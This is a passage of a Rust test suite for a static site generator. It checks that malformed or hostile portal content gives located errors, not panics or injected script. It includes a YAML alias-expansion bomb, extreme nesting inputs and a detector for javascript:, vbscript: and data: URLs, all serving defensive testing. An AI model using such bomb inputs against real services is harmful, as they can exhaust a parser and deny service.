//! Hostile and broken input (issue 8): whatever a portal contains, a build never panics, never
//! lets text become markup or script, and never loses a file or the previous site. Each test
//! builds a real portal in a temporary folder and asserts the exact outcome: a named error with
//! its file, line and column, or a correct site read back with an HTML or XML parser.
//!
//! Each case asserts the exact outcome: a named error with its place, or a correct page.

mod common;

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::Path;
use std::sync::mpsc;
use std::time::Duration;

use common::{output_with, resolve_link, sel, Built, Page, TestSite, BASE};

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

fn portal() -> TestSite {
    common::valid_portal()
}

/// The report's source file.
const REPORT: &str = "content/outputs/report/index.md";

/// A one-language portal, for tests whose pages are large.
fn english_only() -> TestSite {
    let site = TestSite::new(
        "title: Portal\nbase_url: https://example.org\nlanguages: [{ code: en, name: English }]\n",
    );
    site.write(
        "content/authors/dastak.md",
        "---\nname: Dastak\nkind: organisation\n---\n",
    );
    site
}

/// `s` as a YAML double-quoted scalar: every character kept, whatever it is.
fn yq(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20
                || ('\u{7f}'..='\u{9f}').contains(&c)
                || matches!(
                    c,
                    '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}'
                ) =>
            {
                out.push_str(&format!("\\u{:04X}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Every file under `dir` with its bytes, by relative path.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<(String, Vec<u8>)> = walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path()
                    .strip_prefix(dir)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

/// Asserts two snapshots are equal, naming the first file that differs.
fn assert_same_site(a: &[(String, Vec<u8>)], b: &[(String, Vec<u8>)], what: &str) {
    let names = |s: &[(String, Vec<u8>)]| s.iter().map(|f| f.0.clone()).collect::<Vec<_>>();
    assert_eq!(names(a), names(b), "{what}: different files");
    for ((name, x), (_, y)) in a.iter().zip(b) {
        assert!(x == y, "{what}: {name} differs");
    }
}

fn html_files(built: &Built) -> Vec<String> {
    built
        .files()
        .into_iter()
        .filter(|f| f.ends_with(".html"))
        .collect()
}

/// The texts of the elements matching `selector`, exactly as parsed (not collapsed).
fn raw_texts(page: &Page, selector: &str) -> Vec<String> {
    page.doc
        .select(&sel(selector))
        .map(|e| e.text().collect::<String>())
        .collect()
}

fn raw_text(page: &Page, selector: &str) -> String {
    let all = raw_texts(page, selector);
    assert!(
        !all.is_empty(),
        "{}: nothing matches `{selector}`",
        page.path
    );
    all[0].clone()
}

/// Every URL-valued attribute of every element of the page.
fn urls_of(page: &Page) -> Vec<String> {
    let mut out = Vec::new();
    for e in page.doc.select(&sel("*")) {
        for (name, value) in e.value().attrs() {
            if matches!(
                name,
                "href" | "src" | "action" | "formaction" | "poster" | "xlink:href" | "srcset"
            ) {
                out.push(value.to_owned());
            }
        }
    }
    out
}

/// Whether a browser would run this URL as a script (or open it as a document of its own).
fn is_script_url(url: &str) -> bool {
    let cleaned: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .flat_map(char::to_lowercase)
        .collect();
    cleaned.starts_with("javascript:")
        || cleaned.starts_with("vbscript:")
        || (cleaned.starts_with("data:") && !cleaned.starts_with("data:image/"))
}

/// Every `href`/`src` of the site's HTML pages and Atom feeds that is a script URL.
fn script_urls(built: &Built) -> Vec<String> {
    let mut found = Vec::new();
    for f in html_files(built) {
        for url in urls_of(&built.html(&f)) {
            if is_script_url(&url) {
                found.push(format!("{f}: {url}"));
            }
        }
    }
    for f in built.files().into_iter().filter(|f| f.ends_with(".xml")) {
        let xml = built.read(&f);
        let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{f}: {e}"));
        for n in doc.descendants() {
            for a in n.attributes() {
                if matches!(a.name(), "href" | "src" | "uri") && is_script_url(a.value()) {
                    found.push(format!("{f}: {}", a.value()));
                }
            }
        }
    }
    found
}

/// Checks every `<script>` of a page is one of the theme's own: the language chooser's
/// redirect, the output list's filter, or schema.org JSON-LD that parses as JSON (a `</script>`
/// written in a title would cut it short and make it invalid).
fn theme_scripts_only(page: &Page) -> Result<(), String> {
    for e in page.doc.select(&sel("script")) {
        let text: String = e.text().collect();
        let theme_file = e.value().attr("src").is_some_and(|src| {
            text.is_empty() && (src.ends_with("js/search.js") || src.ends_with("js/normalize.js"))
        });
        if theme_file {
            continue;
        }
        if e.value().attr("type") == Some("application/ld+json") {
            serde_json::from_str::<serde_json::Value>(&text)
                .map_err(|err| format!("{}: JSON-LD does not parse ({err}): {text}", page.path))?;
        } else if !(text.contains("nashr-chooser-seen") || text.contains("Instant filtering")) {
            return Err(format!("{}: injected <script>{text}</script>", page.path));
        }
    }
    Ok(())
}

/// Every string value of a JSON document.
fn json_strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| json_strings(v, out)),
        serde_json::Value::Object(o) => o.values().for_each(|v| json_strings(v, out)),
        _ => {}
    }
}

/// The string values of a page's JSON-LD.
fn jsonld_strings(page: &Page) -> Vec<String> {
    let mut out = Vec::new();
    for text in raw_texts(page, "script[type=\"application/ld+json\"]") {
        let value: serde_json::Value = serde_json::from_str(&text).expect("JSON-LD parses");
        json_strings(&value, &mut out);
    }
    out
}

/// The number of `<script>` elements of each page, sorted (page names may differ between two
/// portals whose texts differ: some addresses are made from text).
fn script_counts(built: &Built) -> Vec<usize> {
    let mut counts: Vec<usize> = html_files(built)
        .into_iter()
        .map(|f| built.html(&f).count("script"))
        .collect();
    counts.sort();
    counts
}

/// The download links of an output page, resolved to files of the site.
fn downloads(built: &Built, page: &str) -> Vec<(String, String)> {
    built
        .html(page)
        .attrs(".downloads a", "href")
        .into_iter()
        .map(|href| {
            let (file, _) = resolve_link(page, &href).expect("a link inside the site");
            (href, file)
        })
        .collect()
}

/// White space collapsed the way Rust's `split_whitespace` does (Unicode white space).
fn unicode_collapse(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

// ---------------------------------------------------------------------------------------------
// Broken files: YAML, front matter, encodings, sizes
// ---------------------------------------------------------------------------------------------

#[test]
fn invalid_yaml_unterminated_quote_is_located() {
    let errors = output_with("title: \"unterminated\ntype: report\ndate: 2021\n").errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:5:1: error: invalid front matter: found unexpected end of stream"
        )]
    );
}

#[test]
fn invalid_yaml_tab_indentation_is_located() {
    let errors = output_with("title: A\ntype: report\n\tdate: 2021\n").errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:4:1: error: invalid front matter: found a tab character that violates indentation"
        )]
    );
}

#[test]
fn invalid_yaml_unclosed_flow_list_is_located() {
    let errors = output_with(&format!("{BASE}authors: [dastak\n")).errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:6:1: error: invalid front matter: did not find expected ',' or ']'"
        )]
    );
}

#[test]
fn invalid_yaml_colon_in_plain_value_is_located() {
    let errors = output_with("title: Justice: a report\ntype: report\ndate: 2021\n").errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:2:15: error: invalid front matter: mapping values are not allowed in this context"
        )]
    );
}

#[test]
fn invalid_yaml_unknown_alias_is_located() {
    let errors = output_with("title: *nothing\ntype: report\ndate: 2021\n").errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:2:8: error: invalid front matter: unknown anchor"
        )]
    );
}

#[test]
fn front_matter_that_is_a_list_not_a_mapping() {
    let errors = output_with("- title\n- A report\n").errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with(&format!(
            "{REPORT}:2:1: error: invalid front matter: invalid type: sequence"
        )),
        "{errors:?}"
    );
}

#[test]
fn duplicate_key_in_front_matter_names_the_key_and_its_second_line() {
    let errors = output_with(&format!("{BASE}authors: [dastak]\nauthors:\n  - dastak\n")).errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:6:1: error: invalid front matter: duplicate field `authors`"
        )]
    );
}

#[test]
fn duplicate_key_in_site_yaml_names_the_key() {
    let site = portal();
    site.write(
        "site.yaml",
        &format!("{}title: Again\n", common::TRILINGUAL),
    );
    assert_eq!(
        site.errors(),
        vec!["site.yaml:8:1: error: invalid front matter: duplicate field `title`"]
    );
}

#[test]
fn duplicate_key_in_a_flow_mapping_points_at_the_second_key() {
    let errors = output_with(&format!(
        "{BASE}files:\n  - {{ path: summary.pdf, path: other.pdf }}\n"
    ))
    .errors();
    assert_eq!(
        errors,
        vec![format!(
            "{REPORT}:6:26: error: invalid front matter: files[0]: duplicate field `path`"
        )]
    );
}

#[test]
fn duplicate_unknown_key_is_an_error_naming_it() {
    let errors = output_with(&format!("{BASE}note: one\nnote: two\n")).errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with(&format!("{REPORT}:6:1: error:")),
        "{errors:?}"
    );
    assert!(errors[0].contains("`note`"), "{errors:?}");
}

#[test]
fn duplicate_language_in_the_site_title_is_an_error() {
    let site = portal();
    site.write(
        "site.yaml",
        &common::TRILINGUAL.replace(
            "title: { en: Test portal,",
            "title: { en: Test portal, en: Other portal,",
        ),
    );
    let errors = site.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(errors[0].starts_with("site.yaml:1:"), "{errors:?}");
    assert!(errors[0].contains("`en`"), "{errors:?}");
}

#[test]
fn front_matter_not_closed() {
    let site = portal();
    site.write(
        REPORT,
        &format!("---\n{BASE}Body without a closing line.\n"),
    );
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:1:1: error: the front matter is not closed\n  help: add a line `---` after the last YAML field, before the text")]
    );
    // Only the opening line, without even a line break.
    site.write(REPORT, "---");
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:1:1: error: the front matter is not closed\n  help: add a line `---` after the last YAML field, before the text")]
    );
}

#[test]
fn a_file_without_front_matter() {
    let site = portal();
    site.write(REPORT, "# Just Markdown\n\nNo fields.\n");
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:1:1: error: the file does not start with front matter (a line `---`)\n  help: start the file with `---`, the YAML fields (at least `title:`), then `---`")]
    );
}

#[test]
fn empty_files_are_errors_naming_each() {
    let site = portal();
    site.write_bytes("content/authors/empty.md", b"");
    site.write("content/topics/blank.md", "   \n\n\t\n");
    site.write_bytes("content/pages/bom-only.md", b"\xEF\xBB\xBF");
    let help = "  help: start the file with `---`, the YAML fields (at least `title:`), then `---`";
    let empty = "error: the file is empty: it needs front matter between `---` lines";
    assert_eq!(
        site.errors(),
        vec![
            format!("content/authors/empty.md:1:1: {empty}\n{help}"),
            format!("content/pages/bom-only.md:1:1: {empty}\n{help}"),
            format!("content/topics/blank.md:1:1: {empty}\n{help}"),
        ]
    );
}

#[test]
fn empty_front_matter_reports_every_required_field() {
    let errors = output_with("").errors();
    assert_eq!(
        errors,
        vec![
            format!("{REPORT}:1:1: error: required field `date` is missing\n  help: add a line `date: 2021-06-30` to the front matter"),
            format!("{REPORT}:1:1: error: required field `title` is missing\n  help: add a line `title: \"The report's title\"` to the front matter"),
            format!("{REPORT}:1:1: error: required field `type` is missing\n  help: add a line `type: report` to the front matter"),
        ]
    );
}

#[test]
fn an_empty_site_yaml_reports_every_missing_setting() {
    let site = portal();
    site.write("site.yaml", "");
    assert_eq!(
        site.errors(),
        vec![
            "site.yaml: error: `languages` lists no language\n  help: add e.g. `languages: [{ code: en, name: English }]`",
            "site.yaml: error: base_url `` is not an absolute URL\n  help: write it in full, e.g. `base_url: https://example.org/portal`",
            "site.yaml: error: the site has no `title`\n  help: add `title: \"My portal\"` or one title per language",
        ]
    );
}

#[test]
fn a_byte_order_mark_is_dropped_everywhere_it_is_accepted() {
    let plain = portal();
    let bom = portal();
    for (path, text) in [
        ("site.yaml", common::TRILINGUAL.to_owned()),
        (
            REPORT,
            std::fs::read_to_string(plain.root().join(REPORT)).unwrap(),
        ),
        (
            "content/authors/dastak.md",
            "---\r\nname: Dastak\r\nkind: organisation\r\n---\r\n".to_owned(),
        ),
    ] {
        let mut bytes = b"\xEF\xBB\xBF".to_vec();
        bytes.extend(text.as_bytes());
        bom.write_bytes(path, &bytes);
    }
    let built = bom.built();
    let page = built.html("en/outputs/report/index.html");
    assert_eq!(raw_text(&page, "h1"), "A report");
    assert_eq!(raw_text(&page, "a.brand"), "Test portal");
    assert_eq!(page.text(".facts .authors"), "Mahnoor Fawad, Dastak");
    assert_same_site(&snapshot(&plain.built().out), &snapshot(&built.out), "BOM");
}

#[test]
fn a_byte_order_mark_in_a_site_strings_file_is_dropped() {
    let site = portal();
    site.write_bytes(
        "i18n/en/site.ftl",
        "\u{feff}nav-outputs = Publications\r\n".as_bytes(),
    );
    let built = site.built();
    let page = built.html("en/index.html");
    assert!(
        page.texts(".main-nav a")
            .contains(&"Publications".to_owned()),
        "{:?}",
        page.texts(".main-nav a")
    );
}

#[test]
fn a_byte_order_mark_in_a_template_override_is_dropped() {
    let site = portal();
    site.write(
        "templates/page.html",
        "\u{feff}{% extends \"base.html\" %}\r\n{% block content %}<h1>{{ page.title }}!</h1>{% endblock content %}\r\n",
    );
    site.write("content/pages/about.md", "---\ntitle: About\n---\n");
    let built = site.built();
    assert_eq!(built.html("en/about/index.html").text("h1"), "About!");
}

/// A portal whose every text file uses `eol` for line ends.
fn portal_with_line_ends(eol: &str) -> TestSite {
    let site = TestSite::new(&common::TRILINGUAL.replace('\n', eol));
    let files = [
        ("content/authors/dastak.md", "---\nname: Dastak\nkind: organisation\n---\nAn NGO\nin Lahore.\n"),
        ("content/authors/dastak.ur.md", "---\nname: دستک\n---\n"),
        ("content/topics/courts.md", "---\ntitle: Courts\n---\n"),
        (
            REPORT,
            "---\ntitle: A report\ntype: report\ndate: 2021-06-30\nauthors:\n  - dastak\ntopics:\n  - courts\nabstract: |\n  First line\n  second line.\n---\nParagraph one  \nwith a hard break\nand a soft one.\n\n## Findings\n\n```rust\nfn main() {\n    println!(\"hi\");\n}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- item\n  - nested\n\n> quoted\n> text\n\nText[^1].\n\n[^1]: A note\n    on two lines.\n",
        ),
        (
            "content/outputs/report/index.fr.md",
            "---\ntitle: Un rapport\n---\nCorps\nen français.\n",
        ),
        (
            "content/pages/about.md",
            "---\ntitle: About\nmenu_weight: 1\n---\nAbout\nus.\n",
        ),
    ];
    for (path, text) in files {
        site.write(path, &text.replace('\n', eol));
    }
    site
}

#[test]
fn crlf_and_cr_line_endings_build_the_same_site_as_lf() {
    let lf = portal_with_line_ends("\n");
    let reference = snapshot(&lf.built().out);
    let page = lf.built().html("en/outputs/report/index.html");
    assert_eq!(page.text(".abstract p"), "First line second line.");
    for (name, eol) in [("CRLF", "\r\n"), ("CR", "\r")] {
        let site = portal_with_line_ends(eol);
        let built = site.built();
        assert_same_site(&reference, &snapshot(&built.out), name);
    }
}

#[test]
fn cr_line_endings_in_a_site_strings_file() {
    let site = portal();
    site.write(
        "i18n/en/site.ftl",
        "nav-outputs = Publications\rnav-topics = Themes\r",
    );
    let built = site.built();
    let nav = built.html("en/index.html").texts(".main-nav a");
    assert!(nav.contains(&"Publications".to_owned()), "{nav:?}");
    assert!(nav.contains(&"Themes".to_owned()), "{nav:?}");
}

#[test]
fn invalid_utf8_is_an_error_with_line_and_column() {
    let site = portal();
    site.write_bytes(
        REPORT,
        b"---\ntitle: A report\ntype: report\ndate: 2021-06-30\n---\nFirst line.\nSecond \xFF line.\n",
    );
    // A truncated multi-byte character at the very end of another file.
    site.write_bytes(
        "content/topics/courts.md",
        b"---\ntitle: Courts\n---\nEnd \xD8",
    );
    let help = "  help: save the file with UTF-8 encoding in your editor";
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}:7:8: error: the file is not valid UTF-8 text\n{help}"),
            format!(
                "content/topics/courts.md:4:5: error: the file is not valid UTF-8 text\n{help}"
            ),
        ]
    );
}

#[test]
fn invalid_utf8_in_site_yaml_is_located() {
    let site = portal();
    // "Portail d'essai" saved as Latin-1.
    site.write_bytes(
        "site.yaml",
        b"title: Portail d'\xE9ssai\nbase_url: https://example.org\nlanguages: [{ code: fr }]\n",
    );
    assert_eq!(
        site.errors(),
        vec!["site.yaml:1:18: error: the file is not valid UTF-8 text\n  help: save the file with UTF-8 encoding in your editor"]
    );
}

#[test]
fn invalid_utf8_column_counts_characters_like_every_other_column() {
    let site = portal();
    // "title: اردو " is 12 characters but 16 bytes: the bad byte is the 13th character.
    let mut bytes = "---\ntitle: اردو ".as_bytes().to_vec();
    bytes.extend(b"\xFF\ntype: report\ndate: 2021\n---\n");
    site.write_bytes(REPORT, &bytes);
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:2:13: error: the file is not valid UTF-8 text\n  help: save the file with UTF-8 encoding in your editor")]
    );
}

#[cfg(unix)]
#[test]
fn a_file_name_that_is_not_utf8_is_an_error() {
    use std::os::unix::ffi::OsStrExt;
    let site = portal();
    let name = std::ffi::OsStr::from_bytes(b"caf\xE9.md");
    std::fs::write(
        site.root().join("content/topics").join(name),
        "---\ntitle: Caf\u{e9}\n---\n",
    )
    .unwrap();
    let errors = site.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(errors[0].starts_with("content/topics/caf"), "{errors:?}");
    assert!(errors[0].contains("UTF-8"), "{errors:?}");
}

#[test]
fn a_twenty_megabyte_markdown_file_builds() {
    let site = english_only();
    let mut text = String::from(
        "---\ntitle: A long report\ntype: report\ndate: 2021\nauthors: [dastak]\n---\n",
    );
    let paragraph = "Lorem ipsum dolor sit amet, *consectetur* adipiscing elit, sed do eiusmod tempor incididunt ut labore.\n\n";
    let mut paragraphs = 0;
    while text.len() < 20 * 1024 * 1024 {
        text.push_str(paragraph);
        paragraphs += 1;
    }
    text.push_str("The last paragraph.\n");
    site.write(REPORT, &text);
    let built = site.built();
    let html = built.read("en/outputs/report/index.html");
    assert!(html.len() > 20 * 1024 * 1024, "{}", html.len());
    assert_eq!(html.matches("<h1").count(), 1);
    assert!(html.contains("<p>The last paragraph.</p>"));
    assert_eq!(html.matches("<em>consectetur</em>").count(), paragraphs);
}

#[test]
fn a_source_file_over_the_size_limit_is_a_clear_error() {
    let site = english_only();
    let mut bytes = b"---\ntitle: Huge\ntype: report\ndate: 2021\n---\n".to_vec();
    bytes.resize(33 * 1024 * 1024, b'a');
    site.write_bytes(REPORT, &bytes);
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}: error: the file is 33 MB, over the 32 MB limit for a source file\n  help: split the text, or attach the long document as a file under `files:`")]
    );
}

/// 10,000 nested list levels: a clear error naming the limit, quickly (nesting that deep is
/// unreadable, and sanitising it would take time growing with the square of the depth).
#[test]
fn ten_thousand_nested_list_levels_are_refused_clearly() {
    let site = english_only();
    site.write(
        REPORT,
        &format!(
            "---\ntitle: Deep\ntype: report\ndate: 2021\n---\n{}deepest\n\n{}x\n",
            "- ".repeat(10_000),
            "1. ".repeat(10_000)
        ),
    );
    let errors = site.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with(&format!("{REPORT}: error: the text nests lists or quotes ")),
        "{errors:?}"
    );
    assert!(
        errors[0].contains("levels deep, over the limit of 128"),
        "{errors:?}"
    );
}

/// The deepest nesting accepted builds, with every level in the page.
#[test]
fn lists_nested_up_to_the_limit_build() {
    let site = english_only();
    site.write(
        REPORT,
        &format!(
            "---\ntitle: Deep\ntype: report\ndate: 2021\n---\n{}deepest\n",
            "- ".repeat(60)
        ),
    );
    let built = site.built();
    let html = built.read("en/outputs/report/index.html");
    let body = html.split("<div class=\"prose body\"").nth(1).unwrap();
    assert_eq!(body.matches("<ul>").count(), 60);
    assert!(html.contains("deepest"));
}

#[test]
fn ten_thousand_nested_blockquote_levels_are_refused_clearly() {
    let site = english_only();
    site.write(
        REPORT,
        &format!(
            "---\ntitle: Deep\ntype: report\ndate: 2021\n---\n{} deepest quote\n",
            ">".repeat(10_000)
        ),
    );
    let errors = site.errors();
    assert_eq!(errors, vec![format!("{REPORT}: error: the text nests lists or quotes 10000 levels deep, over the limit of 128\n  help: no document needs that many levels; look for a run of `>` or `-` at the start of a line")]);
}

/// With `safe_html`, deep nesting is refused before the sanitiser sees it (no slow build).
#[test]
fn deep_nesting_is_refused_before_the_sanitiser() {
    let site = TestSite::new(
        "title: Portal\nbase_url: https://example.org\nlanguages: [{ code: en }]\nsafe_html: true\n",
    );
    site.write(
        REPORT,
        &format!(
            "---\ntitle: Deep\ntype: report\ndate: 2021\n---\n{} deepest quote\n\n{}deepest item\n",
            ">".repeat(10_000),
            "- ".repeat(10_000)
        ),
    );
    let started = std::time::Instant::now();
    let errors = site.errors();
    assert!(
        errors[0].contains("levels deep, over the limit of 128"),
        "{errors:?}"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn a_title_of_a_hundred_thousand_characters() {
    let site = portal();
    let title: String = "Access to justice عدالت تک رسائی "
        .chars()
        .cycle()
        .take(100_000)
        .collect::<String>()
        .trim()
        .to_owned();
    site.write(
        REPORT,
        &format!(
            "---\ntitle: {}\ntype: report\ndate: 2021\n---\nBody.\n",
            yq(&title)
        ),
    );
    let built = site.built();
    for lang in ["en", "fr", "ur"] {
        let page = built.html(&format!("{lang}/outputs/report/index.html"));
        assert_eq!(raw_text(&page, "h1"), title);
        assert!(raw_text(&page, "title").starts_with(&title));
        assert_eq!(raw_text(&page, ".breadcrumbs [aria-current=page]"), title);
    }
    let feed = built.read("en/atom.xml");
    let doc = roxmltree::Document::parse(&feed).unwrap();
    let titles: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("title") && n.parent().is_some_and(|p| p.has_tag_name("entry")))
        .filter_map(|n| n.text())
        .collect();
    assert_eq!(titles, vec![title.as_str()]);
}

#[test]
fn yaml_alias_bomb_neither_hangs_nor_explodes() {
    let mut lines = vec!["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]".to_owned()];
    for i in 1..12 {
        let refs = vec![format!("*a{}", i - 1); 9].join(", ");
        lines.push(format!("a{i}: &a{i} [{refs}]"));
    }
    let bomb = lines.join("\n");
    // Under unknown keys the aliases are never expanded: the build goes on, with warnings.
    let site = output_with(&format!("{BASE}{bomb}\n"));
    let built = site.built();
    assert_eq!(
        built
            .report
            .warnings
            .iter()
            .filter(|w| w.message.starts_with("unknown field `a"))
            .count(),
        12
    );
    // Used as a value, the expansion stops at the first type error, located at the aliased
    // (anchored) list.
    let site = output_with(&format!("{BASE}{bomb}\nabstract: *a11\n"));
    assert_eq!(
        site.errors(),
        vec![format!(
            "{REPORT}:16:6: error: invalid front matter: abstract: invalid type: sequence, expected a string"
        )]
    );
}

/// Runs a build on its own thread and gives up after `seconds`.
fn build_within(site: &TestSite, seconds: u64) -> Option<Result<Built, nashr::Failure>> {
    let (root, out) = (site.root().to_path_buf(), site.output());
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(common::build_into(&root, &out));
    });
    rx.recv_timeout(Duration::from_secs(seconds)).ok()
}

#[test]
fn deeply_nested_yaml_of_ten_thousand_levels_is_refused_clearly() {
    let nested = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let site = output_with(&format!("{BASE}extra: {nested}\n"));
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:5:1: error: the front matter nests lists or mappings more than 64 levels deep\n  help: front matter fields are flat lists and short mappings; check for a stray `[` or `{{`")]
    );
    // Nesting within the limit is parsed as usual.
    let nested = format!("{}{}", "[".repeat(10), "]".repeat(10));
    let site = output_with(&format!("{BASE}abstract: {nested}\n"));
    assert_eq!(
        site.errors(),
        vec![format!("{REPORT}:5:11: error: invalid front matter: abstract: invalid type: sequence, expected a string")]
    );
}

#[test]
fn deeply_nested_yaml_of_fifty_thousand_levels_does_not_hang() {
    let nested = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    let site = output_with(&format!("{BASE}extra: {nested}\n"));
    let result = build_within(&site, 10).expect("the build did not finish within 10 s");
    if let Err(f) = result {
        assert!(
            f.errors.iter().all(|e| e.path == Path::new(REPORT)),
            "{}",
            common::text(&f.errors)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Values that do not fit
// ---------------------------------------------------------------------------------------------

#[test]
fn impossible_dates_are_errors() {
    let site = portal();
    let dates = [
        (
            "feb30",
            "2021-02-30",
            "`2021-02-30` is not a date: February has 28 days",
        ),
        (
            "century",
            "1900-02-29",
            "`1900-02-29` is not a date: February has 28 days",
        ),
        (
            "april31",
            "2021-04-31",
            "`2021-04-31` is not a date: April has 30 days",
        ),
        (
            "month0",
            "2021-00-10",
            "`2021-00-10` is not a date: there is no month 0",
        ),
        (
            "day0",
            "2021-03-00",
            "`2021-03-00` is not a date: March has 31 days",
        ),
        (
            "compact",
            "20210230",
            "`20210230` is not a date; write `YYYY-MM-DD`, `YYYY-MM` or `YYYY`",
        ),
        ("leap", "2000-02-29", ""),
        ("leap2024", "2024-02-29", ""),
    ];
    for (slug, date, _) in dates {
        site.write(
            &format!("content/outputs/{slug}/index.md"),
            &format!("---\ntitle: T\ntype: report\ndate: {date}\n---\n"),
        );
    }
    let expected: Vec<String> = {
        let mut e: Vec<(&str, &str)> = dates
            .iter()
            .filter(|d| !d.2.is_empty())
            .map(|d| (d.0, d.2))
            .collect();
        e.sort();
        e.into_iter()
            .map(|(slug, m)| format!("content/outputs/{slug}/index.md:4:7: error: {m}"))
            .collect()
    };
    assert_eq!(site.errors(), expected);
}

#[test]
fn a_date_written_as_a_list_is_an_error() {
    let errors = output_with("title: A\ntype: report\ndate: [2021]\n").errors();
    assert_eq!(
        errors,
        vec![format!("{REPORT}:4:7: error: invalid front matter: date: invalid type: sequence, expected a text or a number")]
    );
}

#[test]
fn numbers_where_lists_are_expected() {
    let site = portal();
    site.write(
        "content/outputs/a/index.md",
        &format!("---\n{BASE}topics: 3.5\n---\n"),
    );
    site.write(
        "content/outputs/b/index.md",
        &format!("---\n{BASE}files: 7\n---\n"),
    );
    site.write(
        "content/projects/p/index.md",
        "---\ntitle: P\nstatus: active\nleaders: 5\n---\n",
    );
    assert_eq!(
        site.errors(),
        vec![
            "content/outputs/a/index.md:5:9: error: invalid front matter: topics: invalid type: floating point `3.5`, expected a list of slugs, e.g. `[fawad-mahnoor, dastak]`",
            "content/outputs/b/index.md:5:8: error: invalid front matter: files: invalid type: integer `7`, expected a sequence",
            "content/projects/p/index.md:4:10: error: invalid front matter: leaders: invalid type: integer `5`, expected a list of slugs, e.g. `[fawad-mahnoor, dastak]`",
        ]
    );
}

#[test]
fn slugs_differing_only_by_case_collide() {
    let site = portal();
    site.write(
        "content/topics/Courts.md",
        "---\ntitle: Courts again\n---\n",
    );
    site.write(
        "content/outputs/Report/index.md",
        &format!("---\n{BASE}---\n"),
    );
    let what = "only by letter case or Unicode form; both would get the same address on many servers\n  help: rename one of the two";
    assert_eq!(
        site.errors(),
        vec![
            format!("{REPORT}: error: the slug `report` differs from `Report` {what}"),
            format!(
                "content/topics/courts.md: error: the slug `courts` differs from `Courts` {what}"
            ),
        ]
    );
}

#[test]
fn slugs_differing_only_by_unicode_normalisation_collide() {
    let site = portal();
    let (nfc, nfd) = ("caf\u{e9}", "cafe\u{301}");
    site.write(
        &format!("content/topics/{nfc}.md"),
        "---\ntitle: Café NFC\n---\n",
    );
    site.write(
        &format!("content/topics/{nfd}.md"),
        "---\ntitle: Café NFD\n---\n",
    );
    site.write(
        &format!("content/outputs/{nfc}/index.md"),
        &format!("---\n{BASE}---\n"),
    );
    site.write(
        &format!("content/outputs/{nfd}/index.md"),
        &format!("---\n{BASE}---\n"),
    );
    // Both names are read in NFC: the NFD file (sorted first by bytes) is the first.
    let help = "  help: a file without a language suffix belongs to the default language; keep one of the two";
    assert_eq!(
        site.errors(),
        vec![
            format!("content/outputs/{nfc}/index.md: error: a second file for `outputs/{nfc}` in language `en` (the first is content/outputs/{nfd}/index.md)\n{help}"),
            format!("content/topics/{nfc}.md: error: a second file for `topics/{nfc}` in language `en` (the first is content/topics/{nfd}.md)\n{help}"),
        ]
    );
}

#[test]
fn a_folder_named_in_nfd_is_published_under_its_nfc_address_with_its_files() {
    let site = portal();
    let (nfc, nfd) = ("r\u{e9}sum\u{e9}", "re\u{301}sume\u{301}");
    site.write(
        &format!("content/outputs/{nfd}/index.md"),
        &format!("---\n{BASE}files:\n  - {{ path: \"note\u{301}s.pdf\" }}\n---\n"),
    );
    site.write(&format!("content/outputs/{nfd}/note\u{301}s.pdf"), "%PDF\n");
    let built = site.built();
    let page = format!("en/outputs/{nfc}/index.html");
    assert!(built.exists(&page), "{:?}", built.files());
    let links = downloads(&built, &page);
    assert_eq!(links.len(), 1);
    assert!(links[0].0.is_ascii(), "{links:?}");
    assert!(
        built.exists(&links[0].1),
        "{links:?} in {:?}",
        built.files()
    );
}

#[test]
fn a_language_suffix_that_is_not_configured() {
    let site = portal();
    site.write("content/topics/courts.de.md", "---\ntitle: Gerichte\n---\n");
    site.write("content/topics/courts.EN.md", "---\ntitle: Courts\n---\n");
    site.write(
        "content/outputs/report/index.pt-BR.md",
        "---\ntitle: Relatório\n---\n",
    );
    let configured = "configured languages: en, fr, ur";
    assert_eq!(
